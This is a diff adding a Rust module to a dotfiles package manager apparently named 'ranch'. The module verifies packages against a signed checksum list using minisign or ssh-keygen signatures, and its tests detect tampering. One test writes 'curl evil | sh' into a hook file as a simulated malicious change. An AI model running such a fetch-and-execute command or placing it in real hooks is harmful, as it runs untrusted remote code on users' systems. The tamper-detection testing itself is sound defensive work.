@@ -0,0 +1,356 @@
+use crate::i18n::tr;
+use crate::state::sha256_hex;
+use crate::{Args, LV_INFO};
+use std::collections::BTreeMap;
+use std::fs;
+use std::io::{self, Write};
+use std::path::{Path, PathBuf};
+use std::process::{Command, Stdio};
+use walkdir::WalkDir;
+
+/// File in a package's root listing the SHA-256 of every other file in the package, in the
+/// format of 'sha256sum'; signing it signs the whole package.
+pub const CHECKSUMS_NAME: &str = ".ranch.sha256";
+
+/// SSH signatures are made for a namespace, so that one made for another purpose (such as a git
+/// commit) can't be replayed; sign with 'ssh-keygen -Y sign -n file'.
+const SSH_NAMESPACE: &str = "file";
+
+/// How detached signatures are checked, when '--minisign-key' or '--allowed-signers' asks for
+/// them to be.
+pub enum Verifier<'a> {
+    /// A minisign public key, or the path of a file holding one.
+    Minisign(&'a str),
+    /// An ssh 'allowed_signers' file.
+    Ssh(&'a Path),
+}
+
+impl Verifier<'_> {
+    pub fn new(args: &Args) -> Option<Verifier<'_>> {
+        if let Some(key) = &args.minisign_key {
+            return Some(Verifier::Minisign(key));
+        }
+        args.allowed_signers.as_deref().map(Verifier::Ssh)
+    }
+
+    /// Suffix of the signature file that sits beside the file it signs.
+    pub fn extension(&self) -> &'static str {
+        match self {
+            Verifier::Minisign(_) => ".minisig",
+            Verifier::Ssh(_) => ".sig",
+        }
+    }
+
+    /// Path of the signature for `file`.
+    pub fn signature_path(&self, file: &Path) -> PathBuf {
+        let mut path = file.as_os_str().to_owned();
+        path.push(self.extension());
+        PathBuf::from(path)
+    }
+
+    /// Checks `file` against its detached `signature`.
+    pub fn verify(&self, file: &Path, signature: &Path) -> Result<(), String> {
+        if !signature.exists() {
+            return Err(tr!(
+                "not-signed",
+                file = file.display(),
+                signature = signature.display()
+            ));
+        }
+        let result = match self {
+            Verifier::Minisign(key) => {
+                let mut cmd = Command::new("minisign");
+                cmd.arg("-V").arg("-q");
+                match Path::new(key).is_file() {
+                    true => cmd.arg("-p").arg(key),
+                    false => cmd.arg("-P").arg(key),
+                };
+                run(cmd.arg("-m").arg(file).arg("-x").arg(signature), None).map(|_| ())
+            }
+            Verifier::Ssh(allowed_signers) => ssh_verify(allowed_signers, file, signature),
+        };
+        result.map_err(|e| tr!("bad-signature", file = file.display(), error = e))
+    }
+}
+
+/// Verifies the package at `prefix_path` when signatures are required: its [CHECKSUMS_NAME]
+/// must be signed, and every file in the package must be listed there with its current
+/// checksum. Packages from a verified '--from' archive are already covered by the archive's
+/// signature.
+pub fn verify_package(args: &Args, prefix_path: &Path) -> Result<(), String> {
+    let Some(verifier) = Verifier::new(args) else {
+        return Ok(());
+    };
+    if args.verified_source {
+        return Ok(());
+    }
+    let listed = prefix_path.join(CHECKSUMS_NAME);
+    if !listed.exists() {
+        return Err(tr!(
+            "nothing-to-verify",
+            package = prefix_path.display(),
+            checksums = CHECKSUMS_NAME
+        ));
+    }
+    verifier.verify(&listed, &verifier.signature_path(&listed))?;
+    let text = fs::read_to_string(&listed)
+        .map_err(|e| tr!("could-not-read", path = listed.display(), error = e))?;
+    let problems = compare(&parse(&text), &checksums(prefix_path)?);
+    match problems.is_empty() {
+        true => Ok(()),
+        false => Err(tr!(
+            "package-not-as-signed",
+            package = prefix_path.display(),
+            problems = problems.join("; ")
+        )),
+    }
+}
+
+/// Writes the [CHECKSUMS_NAME] of the package `package` in 'DIR', ready to be signed.
+pub fn write_checksums(
+    args: &Args,
+    package: &str,
+    stderr: &mut dyn io::Write,
+) -> Result<(), String> {
+    let prefix_path = args.dir.join(package);
+    if !prefix_path.is_dir() {
+        return Err(tr!("no-such-package", package = package));
+    }
+    let path = prefix_path.join(CHECKSUMS_NAME);
+    let text: String = checksums(&prefix_path)?
+        .iter()
+        .map(|(name, sum)| format!("{}  {}\n", sum, name))
+        .collect();
+    if args.verbosity("signature") >= LV_INFO {
+        _ = writeln!(stderr, "Writing {}", path.display());
+    }
+    if args.changes_nothing() {
+        return Ok(());
+    }
+    fs::write(&path, text).map_err(|e| tr!("could-not-write", path = path.display(), error = e))
+}
+
+/// Whether `name`, relative to a package's root, is its [CHECKSUMS_NAME] or a signature of it,
+/// which can't list themselves.
+pub fn is_checksums(name: &str) -> bool {
+    name.strip_prefix(CHECKSUMS_NAME)
+        .is_some_and(|rest| ["", ".minisig", ".sig"].contains(&rest))
+}
+
+/// The SHA-256 of every file in the package at `prefix_path`, by path relative to it with '/'
+/// separators. Symlinks are summed by where they point, and git's own files are left out.
+fn checksums(prefix_path: &Path) -> Result<BTreeMap<String, String>, String> {
+    let mut sums = BTreeMap::new();
+    let walk = WalkDir::new(prefix_path)
+        .into_iter()
+        .filter_entry(|e| e.file_name() != ".git");
+    for entry in walk {
+        let entry =
+            entry.map_err(|e| tr!("could-not-read", path = prefix_path.display(), error = e))?;
+        if entry.file_type().is_dir() {
+            continue;
+        }
+        let path = entry.path();
+        let rel = path.strip_prefix(prefix_path).unwrap_or(path);
+        let name: Vec<_> = rel.iter().map(|c| c.to_string_lossy()).collect();
+        let name = name.join("/");
+        if is_checksums(&name) {
+            continue;
+        }
+        let contents = match entry.path_is_symlink() {
+            true => fs::read_link(path).map(|t| t.to_string_lossy().into_owned().into_bytes()),
+            false => fs::read(path),
+        };
+        let contents =
+            contents.map_err(|e| tr!("could-not-read", path = path.display(), error = e))?;
+        sums.insert(name, sha256_hex(&contents));
+    }
+    Ok(sums)
+}
+
+/// Reads checksums in the format of 'sha256sum': a digest, a space, a space or '*', and a path.
+fn parse(text: &str) -> BTreeMap<String, String> {
+    text.lines()
+        .filter_map(|line| {
+            let (sum, name) = line.split_once(' ')?;
+            let name = name.strip_prefix([' ', '*']).unwrap_or(name);
+            let name = name.strip_prefix("./").unwrap_or(name);
+            Some((name.to_owned(), sum.to_lowercase()))
+        })
+        .collect()
+}
+
+/// Describes how the `actual` checksums of a package differ from the `listed` ones.
+fn compare(listed: &BTreeMap<String, String>, actual: &BTreeMap<String, String>) -> Vec<String> {
+    let mut problems = Vec::new();
+    for (name, sum) in actual {
+        match listed.get(name) {
+            None => problems.push(tr!("file-not-signed", file = name)),
+            Some(listed) if listed != sum => {
+                problems.push(tr!("file-changed-since-signed", file = name))
+            }
+            Some(_) => {}
+        }
+    }
+    for name in listed.keys().filter(|name| !actual.contains_key(*name)) {
+        problems.push(tr!("signed-file-missing", file = name));
+    }
+    problems
+}
+
+fn ssh_verify(allowed_signers: &Path, file: &Path, signature: &Path) -> Result<(), String> {
+    let principals = run(
+        Command::new("ssh-keygen")
+            .args(["-Y", "find-principals", "-f"])
+            .arg(allowed_signers)
+            .arg("-s")
+            .arg(signature),
+        None,
+    )
+    .map_err(|_| tr!("unknown-signer"))?;
+    let principal = principals.lines().next().unwrap_or_default();
+    let contents =
+        fs::read(file).map_err(|e| tr!("could-not-read", path = file.display(), error = e))?;
+    run(
+        Command::new("ssh-keygen")
+            .args(["-Y", "verify", "-n", SSH_NAMESPACE, "-f"])
+            .arg(allowed_signers)
+            .arg("-I")
+            .arg(principal)
+            .arg("-s")
+            .arg(signature),
+        Some(&contents),
+    )
+    .map(|_| ())
+}
+
+/// Runs a verification tool, returning its standard output.
+fn run(cmd: &mut Command, stdin: Option<&[u8]>) -> Result<String, String> {
+    let program = cmd.get_program().to_string_lossy().into_owned();
+    let mut child = cmd
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .map_err(|e| tr!("could-not-run", program = program, error = e))?;
+    if let (Some(mut pipe), Some(stdin)) = (child.stdin.take(), stdin) {
+        pipe.write_all(stdin)
+            .map_err(|e| tr!("could-not-write-to", program = program, error = e))?;
+    }
+    let output = child
+        .wait_with_output()
+        .map_err(|e| tr!("could-not-run", program = program, error = e))?;
+    if !output.status.success() {
+        return Err(tr!(
+            "program-failed",
+            program = program,
+            output = String::from_utf8_lossy(&output.stderr).trim()
+        ));
+    }
+    Ok(String::from_utf8_lossy(&output.stdout).into_owned())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use clap::Parser;
+    use tempdir::TempDir;
+
+    #[test]
+    fn test_ssh_verify() {
+        let tmp_dir = TempDir::new("alice").unwrap();
+        let key = tmp_dir.path().join("id_ed25519");
+        let keygen = Command::new("ssh-keygen")
+            .args(["-q", "-t", "ed25519", "-N", "", "-C", "alice", "-f"])
+            .arg(&key)
+            .status();
+        if !keygen.is_ok_and(|s| s.success()) {
+            return; // ssh-keygen isn't installed
+        }
+        let public_key = fs::read_to_string(key.with_extension("pub")).unwrap();
+        let allowed_signers = tmp_dir.path().join("allowed_signers");
+        fs::write(&allowed_signers, format!("alice {}", public_key)).unwrap();
+        let manifest = tmp_dir.path().join(crate::manifest::MANIFEST_NAME);
+        fs::write(&manifest, "target = \"~\"\n").unwrap();
+        Command::new("ssh-keygen")
+            .args(["-q", "-Y", "sign", "-n", SSH_NAMESPACE, "-f"])
+            .arg(&key)
+            .arg(&manifest)
+            .status()
+            .unwrap();
+        let verifier = Verifier::Ssh(&allowed_signers);
+        let signature = verifier.signature_path(&manifest);
+
+        assert!(verifier.verify(&manifest, &signature).is_ok());
+        fs::write(&manifest, "target = \"/\"\n").unwrap();
+        assert!(verifier.verify(&manifest, &signature).is_err());
+        fs::remove_file(&signature).unwrap();
+        assert!(verifier
+            .verify(&manifest, &signature)
+            .unwrap_err()
+            .contains("is not signed"));
+    }
+
+    #[test]
+    fn test_verify_package() {
+        let tmp_dir = TempDir::new("alice").unwrap();
+        let key = tmp_dir.path().join("id_ed25519");
+        let keygen = Command::new("ssh-keygen")
+            .args(["-q", "-t", "ed25519", "-N", "", "-C", "alice", "-f"])
+            .arg(&key)
+            .status();
+        if !keygen.is_ok_and(|s| s.success()) {
+            return; // ssh-keygen isn't installed
+        }
+        let public_key = fs::read_to_string(key.with_extension("pub")).unwrap();
+        let allowed_signers = tmp_dir.path().join("allowed_signers");
+        fs::write(&allowed_signers, format!("alice {}", public_key)).unwrap();
+        let dir = tmp_dir.path().join(".dotfiles");
+        fs::create_dir_all(dir.join("vim")).unwrap();
+        fs::write(dir.join("vim/.vimrc"), "set nu").unwrap();
+        let args = Args::parse_from([
+            "ranch",
+            "-C",
+            dir.to_str().unwrap(),
+            "--allowed-signers",
+            allowed_signers.to_str().unwrap(),
+            "vim",
+        ]);
+        write_checksums(&args, "vim", &mut io::sink()).unwrap();
+        Command::new("ssh-keygen")
+            .args(["-q", "-Y", "sign", "-n", SSH_NAMESPACE, "-f"])
+            .arg(&key)
+            .arg(dir.join("vim").join(CHECKSUMS_NAME))
+            .status()
+            .unwrap();
+
+        assert_eq!(verify_package(&args, &dir.join("vim")), Ok(()));
+        fs::write(dir.join("vim/.vimrc"), "set nonu").unwrap();
+        assert!(verify_package(&args, &dir.join("vim"))
+            .unwrap_err()
+            .contains(".vimrc has changed since it was signed"));
+    }
+
+    #[test]
+    fn test_compare_checksums() {
+        let tmp_dir = TempDir::new("alice").unwrap();
+        let package = tmp_dir.path().join("vim");
+        fs::create_dir_all(package.join("hooks")).unwrap();
+        fs::write(package.join(".vimrc"), "set nu").unwrap();
+        fs::write(package.join("hooks/post-link"), "echo hi").unwrap();
+        fs::write(package.join("gone"), "").unwrap();
+        let args = Args::parse_from(["ranch", "-C", tmp_dir.path().to_str().unwrap(), "vim"]);
+        write_checksums(&args, "vim", &mut io::sink()).unwrap();
+        let text = fs::read_to_string(package.join(CHECKSUMS_NAME)).unwrap();
+        let listed = parse(&text);
+        assert!(text.contains(&format!("{}  .vimrc\n", sha256_hex(b"set nu"))));
+        assert!(compare(&listed, &checksums(&package).unwrap()).is_empty());
+
+        fs::write(package.join("hooks/post-link"), "curl evil | sh").unwrap();
+        fs::write(package.join(".bashrc"), "").unwrap();
+        fs::remove_file(package.join("gone")).unwrap();
+        let problems = compare(&listed, &checksums(&package).unwrap());
+        assert_eq!(problems.len(), 3);
+        assert!(problems.iter().any(|p| p.contains("hooks/post-link")));
+    }
+}